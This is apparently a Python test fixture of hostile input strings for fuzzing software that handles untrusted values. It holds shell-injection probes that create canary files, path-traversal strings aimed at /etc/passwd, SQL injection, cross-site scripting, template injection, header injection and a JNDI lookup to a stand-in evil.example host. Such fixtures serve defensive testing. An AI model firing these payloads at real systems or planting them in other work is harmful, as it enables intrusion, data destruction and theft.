"""What nobody types by chance: values that are code, markup, paths or orders to somebody along the way."""


def shell(canary):
    """Each would leave a file below this folder if any shell, or anything like one, read it."""
    commands = [
        "; touch {c}", "| touch {c}", "& touch {c}", "&& touch {c}", "|| touch {c}", "$(touch {c})", "`touch {c}`",
        "$(touch${{IFS}}{c})", "`touch${{IFS}}{c}`", ";touch${{IFS}}{c}", ";{{touch,{c}}}", "> {c}", ">> {c}", "2> {c}",
        ">| {c}", "&> {c}", "<(touch {c})", ">(touch {c})", "a[$(touch {c})]", "$((a[$(touch {c})]))",
        "$[a[$(touch {c})]]", "${{x:-$(touch {c})}}", "${{x@P}}$(touch {c})", "() {{ :; }}; touch {c}",
        "x() {{ touch {c}; }}; x", "\ntouch {c}\n", "x\n\ntouch {c}", "\\\ntouch {c}", "$'\\ntouch {c}'",
        "%0atouch {c}", "%0d%0atouch {c}", "${{PATH:0:1}}bin${{PATH:0:1}}touch {c}", "eval touch {c}", "exec touch {c}",
        ". {c}", "source {c}", "trap 'touch {c}' EXIT", "<<E\n$(touch {c})\nE", "{{{{touch {c}}}}}",
        "<%= `touch {c}` %>", "#{{`touch {c}`}}", "${{{{touch {c}}}}}", "*; touch {c}", "!touch {c}", "\ttouch {c}",
        "\\$(touch {c})", "\\\\$(touch {c})", "\\`touch {c}\\`",
    ]
    values = []
    for number, command in enumerate(commands):
        touching = command.format(c=f"{canary}/{number}")
        values += [touching, f"x{touching}", f'"{touching}"', f"'{touching}'", f'"; {touching}; "', f"'; {touching}; '"]
    return values


PLAIN = [
    # Nothing, and what some programs take for nothing.
    "", " ", "  ", "\t", "\n", "\n\n", " leading", "trailing ", "\nleading", "trailing\n", "a\tb", "0", "-0", "00",
    "null", "NULL", "nil", "None", "undefined", "NaN", "Infinity", "true", "false", "(null)", "\\0", "\\N", "\\x00",
    "%00", "&#0;",
    # Options and orders.
    "-", "--", "-n", "-e", "-rf", "--help", "--version", "-o/etc/passwd", "--output=/etc/passwd", "-x -y", "@",
    "@/etc/passwd", "@file", "+x", "=", "==", "=x", "x=", "x=1", "PATH=/evil", "LD_PRELOAD=/evil.so", "BASH_ENV=/evil",
    "IFS=x", "SR_JOB=1", "=cmd|' /C calc'!A0", "#", "#!/bin/sh", "##~~ name - description", "##~~ @syntax 2",
    "##~~ progress 100 done",
    # Quotes, globs, backslashes, expansions.
    "'", '"', "`", "''", '""', "'\"'\"'", "\\", "\\\\", "\\'", '\\"', "\\n", "\\r\\n", "\\x41", "\\u0041", "*", "?",
    "[a-z]*", "{a,b}", "{1..9}", "~", "~root", "$", "$$", "$0", "$1", "$*", "$@", "$#", "$?", "$HOME", "${HOME}",
    "${IFS}", "${#x}", "$(", "`", "${", "a;b", "a&b", "a|b", "a<b", "a>b", "(a)", "!!", "!1", "^a^b", ",", ",,",
    "a,b=c;d", "a, b", ":", "::", "a:b",
    # Paths.
    "/", "//", ".", "..", "...", "../", "../../../../etc/passwd", "/etc/passwd", "..\\..\\windows", "C:\\x",
    "\\\\host\\share", "file:///etc/passwd", "/dev/null", "/dev/stdin", "/proc/self/environ", "....//....//etc",
    "%2e%2e%2f", "..%c0%af", ".ssh/id",
    # SQL.
    "' OR '1'='1", "' OR 1=1 --", "'; DROP TABLE jobs; --", '"; DROP TABLE users; --', "1; SELECT 1",
    "' UNION SELECT 1 --", "x' AND randomblob(1e9) AND '", "%' OR '%'='", "\\'; --", "1/0", "?", "?1", ":name", "@name",
    "$name", "x'00'", "/* */", "--",
    # Markup and scripts for a browser.
    "<script>alert(1)</script>", "</script><script>alert(1)</script>", "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>", "<svg/onload=alert(1)//", "\"><script>alert(1)</script>", "'><script>alert(1)</script>",
    "\" onmouseover=\"alert(1)", "' onfocus='alert(1)' autofocus='", "\" autofocus onfocus=alert(1) x=\"",
    "</td></tr></table><h1>x</h1>", "</span><b>x</b>", "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>", "</option></select><b>", "</pre><b>x</b>", "<!--", "-->", "<!-- x -->",
    "<!DOCTYPE x>", "<![CDATA[x]]>", "]]>", "<?xml version='1.0'?>", "<?php echo 1 ?>", "<a href='x'>",
    "javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "<iframe src=//evil.example>",
    "<base href=//evil.example>", "<meta http-equiv=refresh content=0>", "<link rel=stylesheet href=//evil.example>",
    "<style>*{display:none}</style>", "<form action=//evil.example>", "<input name=token value=x>", "<plaintext>",
    "<xmp>", "<noscript>", "<template>", "<math><mi>", "&lt;script&gt;", "&amp;", "&amp;lt;", "&", "&&", "&x", "&#60;",
    "&#x3c;script&#x3e;", "&nbsp;", "<", ">", "<>", "</>", "< b>", "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>",
    "{% x %}", "${jndi:ldap://evil.example/x}", "expression(alert(1))",
    # Formats, headers, logs, numbers.
    "%s", "%n", "%s%s%s%n", "%d", "%x", "%99999999d", "%", "%%", "%1$s", "{0}", "{}", "a\nSet-Cookie: a=b",
    "a\nSubject: b", "a\n\n<html>", "a\n.\nQUIT", "a\nBcc: eve@example.org",
    "2026-01-01T00:00:00Z worker job-ended job=1", "1e309", "1e-400", "0x41", "0b1", "1_000", "1,000", "-1", "+1",
    "9223372036854775808", "99999999999999999999999999", "1.7976931348623157e308",
    # All the world's letters, and some that are none.
    "naïve", "na\u0308ive", "\u0301", "a" + "\u0301" * 50, "Ω≈ç√", "日本語", "עברית", "العربية", "\u202eabc\u202c",
    "\u200f", "\u200b", "\u00a0", "\u2028", "\u2029", "\ufeff", "\u200d", "👩\u200d👩\u200d👧", "🧬",
    "\U0001f3f4\U000e0067\U000e007f", "\U0010fffd", "\ue000", "\u037e", "\u212a", "ﬁ", "İ", "ß", "ſ", "\u2024\u2024/",
    "＜script＞", "＂", "‹x›", "\u0085".replace("\u0085", "…"), "x\u0338<\u0338", "=\u0338",
    # Long ones.
    "x" * 100_000, "é" * 50_000, "<b>" * 5_000, "a b\n" * 2_000,
]
